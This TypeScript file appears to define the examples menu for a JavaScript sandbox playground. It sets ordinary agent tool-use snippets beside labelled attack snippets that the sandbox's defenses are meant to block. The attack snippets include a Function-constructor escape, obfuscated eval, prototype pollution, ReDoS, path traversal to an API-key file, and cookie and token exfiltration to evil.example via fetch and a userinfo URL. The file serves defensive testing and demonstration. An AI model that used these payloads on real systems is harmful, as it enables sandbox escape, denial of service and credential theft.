/**
 * The examples menu: ordinary agent code, and attacks that each trip one named defense. `expect` is
 * what the playground shows when the defense fires (the e2e tests assert the same outcomes).
 */

/** One entry of the examples menu. */
export interface Example {
  id: string;
  title: string;
  group: 'agent' | 'attack';
  /** What should happen, in one line, shown under the menu. */
  expect: string;
  code: string;
}

export const EXAMPLES: readonly Example[] = [
  {
    id: 'data',
    title: 'Data processing: sales by region',
    group: 'agent',
    expect: 'Returns totals per region and the best product; console shows progress.',
    code: `// Ordinary agent code: plain data in, plain data out.
const sales = [
  { region: 'north', product: 'tea', units: 12, price: 4.5 },
  { region: 'south', product: 'coffee', units: 30, price: 3.2 },
  { region: 'north', product: 'coffee', units: 8, price: 3.2 },
  { region: 'east', product: 'cocoa', units: 15, price: 5.0 },
  { region: 'south', product: 'tea', units: 4, price: 4.5 },
];

const byRegion = {};
for (const { region, units, price } of sales) {
  byRegion[region] = Math.round(((byRegion[region] ?? 0) + units * price) * 100) / 100;
}
console.log('regions:', Object.keys(byRegion).join(', '));

const byProduct = Object.entries(
  sales.reduce((acc, s) => ({ ...acc, [s.product]: (acc[s.product] ?? 0) + s.units }), {}),
).sort((a, b) => b[1] - a[1]);
console.info('best seller:', byProduct[0][0]);

({ byRegion, bestSeller: byProduct[0][0], rows: sales.length });
`,
  },
  {
    id: 'files',
    title: 'Tool use: virtual files',
    group: 'agent',
    expect: 'Lists /workspace, parses a CSV, writes /workspace/report.json (see the Tools panel).',
    code: `// Host tools are async functions on \`tools\`. File tools are confined to the allowed paths.
const entries = await tools.listDir({ path: '/workspace' });
console.log('files:', entries.map((e) => e.name).join(', '));

const csv = await tools.readFile({ path: '/workspace/orders.csv' });
const [header, ...lines] = csv.trim().split('\\n');
const rows = lines.map((line) => Object.fromEntries(line.split(',').map((v, i) => [header.split(',')[i], v])));
const total = rows.reduce((sum, r) => sum + Number(r.amount), 0);

const written = await tools.writeFile({
  path: '/workspace/report.json',
  content: JSON.stringify({ orders: rows.length, total }),
});
({ orders: rows.length, total, written });
`,
  },
  {
    id: 'fetch',
    title: 'Tool use: fetch from the demo API',
    group: 'agent',
    expect: 'fetch reaches https://api.demo.test, answered inside the page (no network).',
    code: `// \`fetch\` is a host tool: exact allowed hosts only, no cookies, size and time caps.
// api.demo.test is answered by a local handler in the playground: nothing leaves the page.
const res = await tools.fetch({ url: 'https://api.demo.test/weather?city=Oslo' });
console.log('status', res.status, res.headers['content-type']);
const weather = JSON.parse(res.body);
({ city: weather.city, celsius: weather.celsius, fahrenheit: weather.celsius * 9 / 5 + 32 });
`,
  },
  {
    id: 'email',
    title: 'Tool use: send an email (needs approval)',
    group: 'agent',
    expect: 'An approval dialog opens; Approve sends it to the outbox, Deny fails with APPROVAL_DENIED.',
    code: `// sendEmail requires a person's approval. The run's deadline pauses while you decide.
const receipt = await tools.sendEmail({
  to: 'customer@example.com',
  subject: 'Your order 123456',
  body: 'Your order has shipped and should arrive on Friday.',
});
receipt;
`,
  },
  {
    id: 'dynamic',
    title: 'Tool use: call a dynamic tool',
    group: 'agent',
    expect: 'Calls `discount`, created in the Dynamic tools panel (create it there first).',
    code: `// Dynamic tools are created by users at run time (Dynamic tools panel) and run in
// their own sandbox, untrusted, with only their arguments and ctx.deps.
const quote = await tools.discount({ price: 120, percent: 15 });
quote;
`,
  },
  {
    id: 'pii',
    title: 'Guardrails: personal data in a result',
    group: 'agent',
    expect: 'Raw while guardrails are off. Press "Guardrails" in the Policy panel: email redacted, phone and card masked, in the result and the console.',
    code: `// Agent output that carries personal data. Guardrails (policy.guardrails) scan results,
// console output and tool arguments/results on their way out of the sandbox.
const customer = { name: 'Ada', email: 'ada@example.com', phone: '+1 415 555 0100', card: '4111 1111 1111 1111' };
console.log('refund for', customer.email, 'to card', customer.card);
({ summary: \`Refund sent to card \${customer.card}\`, contact: customer.email, phone: customer.phone });
`,
  },
  {
    id: 'loop',
    title: 'Attack: infinite loop',
    group: 'attack',
    expect: 'DEADLINE_EXCEEDED: the interrupt handler stops it at the policy deadline.',
    code: `// Burns CPU forever. The QuickJS interrupt handler ends it at limits.timeoutMs,
// and a watchdog would terminate the worker if it ever stopped checking.
let i = 0;
while (true) { i++; }
`,
  },
  {
    id: 'redos',
    title: 'Attack: catastrophic regex (ReDoS)',
    group: 'attack',
    expect: 'DEADLINE_EXCEEDED: the interrupt also fires inside the regex engine.',
    code: `// Exponential backtracking: (a+)+ against a string that almost matches.
/^(a+)+$/.test('a'.repeat(40) + '!');
`,
  },
  {
    id: 'memory',
    title: 'Attack: memory bomb',
    group: 'attack',
    expect: 'MEMORY_LIMIT: the worker\'s WebAssembly memory has a hard maximum.',
    code: `// Keeps allocating fresh 16 MB strings until memory runs out.
const keep = [];
while (true) keep.push('x'.repeat(1 << 24) + keep.length);
`,
  },
  {
    id: 'stack',
    title: 'Attack: unbounded recursion',
    group: 'attack',
    expect: 'STACK_OVERFLOW: QuickJS\'s stack limit trips before the worker\'s native stack.',
    code: `function deeper(n) { return deeper(n + 1) + 1; }
deeper(0);
`,
  },
  {
    id: 'output',
    title: 'Attack: output flood',
    group: 'attack',
    expect: 'OUTPUT_TOO_LARGE: the result is capped at limits.maxResultBytes while it is serialized.',
    code: `// A 4 MB result; the default cap is 1 MiB.
'x'.repeat(4 * 1024 * 1024);
`,
  },
  {
    id: 'constructor',
    title: 'Attack: escape via Function constructor',
    group: 'attack',
    expect: 'VALIDATION_REJECTED (no-function-constructor) at `.constructor`. Tick "trusted" to skip validation and taming: it then reaches only the QuickJS global, still inside the worker.',
    code: `// The classic escape: reach Function through a function literal and compile
// "return this" to get the global object.
const globalObject = (function () {}).constructor('return this')();
Object.keys(globalObject);
`,
  },
  {
    id: 'eval',
    title: 'Attack: eval and an obfuscated eval',
    group: 'attack',
    expect: 'VALIDATION_REJECTED (no-eval) twice: the validator folds the constant \'ev\' + \'al\' behind the computed key. Both are marked in the editor.',
    code: `// Compiles a string into code, directly and through a computed key.
const a = eval('1 + 1');
const name = 'ev' + 'al';
const b = globalThis[name]('2 + 2');
[a, b];
`,
  },
  {
    id: 'proto',
    title: 'Attack: prototype pollution',
    group: 'attack',
    expect: 'VALIDATION_REJECTED (no-prototype-write, forbidden-property).',
    code: `// Poisons a shared built-in so every object "is admin".
Object.prototype.isAdmin = true;
({}).__proto__.polluted = 'yes';
({}).isAdmin;
`,
  },
  {
    id: 'host',
    title: 'Attack: reach the page (document, cookies, network)',
    group: 'attack',
    expect: 'VALIDATION_REJECTED (host-global): the sandbox has no DOM, storage or network.',
    code: `// None of these exist inside the sandbox; the validator says so precisely.
const stolen = document.cookie + localStorage.getItem('token');
fetch('https://evil.example/collect?c=' + encodeURIComponent(stolen));
`,
  },
  {
    id: 'traversal',
    title: 'Attack: path traversal through a tool',
    group: 'attack',
    expect: 'TOOL_DENIED (path.traversal): the path guard accepts one canonical spelling only.',
    code: `// /secret exists on the host, outside the allowed paths. Try to climb out of /workspace.
const keys = await tools.readFile({ path: '/workspace/../secret/api-keys.txt' });
keys;
`,
  },
  {
    id: 'exfil',
    title: 'Attack: exfiltrate through fetch',
    group: 'attack',
    expect: 'TOOL_DENIED (url.userinfo / url.host-not-allowed): only exact allowed hosts.',
    code: `// Dress a foreign host up as the allowed one.
const res = await tools.fetch({ url: 'https://api.demo.test@evil.example/steal?data=secrets' });
res.body;
`,
  },
  {
    id: 'secret',
    title: 'Attack: leak an API key in the result',
    group: 'attack',
    expect: 'With "Guardrails" on (Policy panel): GUARDRAIL_BLOCKED, the secret detector\'s strategy is block.',
    code: `// Exfiltrate a credential through the result. The secret detector knows vendor key shapes.
const key = ['sk', 'live', '4eC39HqLyjWDarjtT1zdp7dc'].join('_');
({ debug: 'config loaded', key });
`,
  },
];

/** The example with this id. */
export function exampleById(id: string): Example | undefined {
  return EXAMPLES.find((e) => e.id === id);
}
